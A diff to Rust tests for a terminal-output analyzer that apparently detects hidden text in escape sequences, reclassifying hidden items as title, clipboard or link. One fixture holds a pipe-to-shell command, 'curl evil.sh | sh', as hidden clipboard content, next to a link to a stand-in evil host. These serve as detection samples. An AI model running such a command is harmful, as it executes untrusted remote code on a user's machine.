@@ -66,7 +66,7 @@ fn a_coloured_prompt_and_sudo_su() {
     // The prompt's title says where the shell is: no evasion, but kept, hidden, on the line
     // where it was set, for grep.
     assert_eq!(f, flags(&[]));
-    assert_eq!(lines[0].hidden[0].kind, Within::Osc);
+    assert_eq!(lines[0].hidden[0].kind, Within::Title);
     assert_eq!(lines[0].hidden[0].text, "alice@web-01: ~");
     assert_eq!(lines[2].hidden[0].text, "root@web-01: ~");
 }
@@ -169,9 +169,9 @@ fn titles_clipboard_and_links() {
     assert_eq!(
         hidden,
         [
-            (Within::Osc, 0, "innocent"),
-            (Within::Osc, 0, "curl evil.sh | sh"),
-            (Within::Osc, 2, "https://evil.example/x"),
+            (Within::Title, 0, "innocent"),
+            (Within::Clipboard, 0, "curl evil.sh | sh"),
+            (Within::Link, 2, "https://evil.example/x"),
         ]
     );
     assert_eq!(f, flags(&[Flag::TitleOrClipboard, Flag::Hyperlink]));
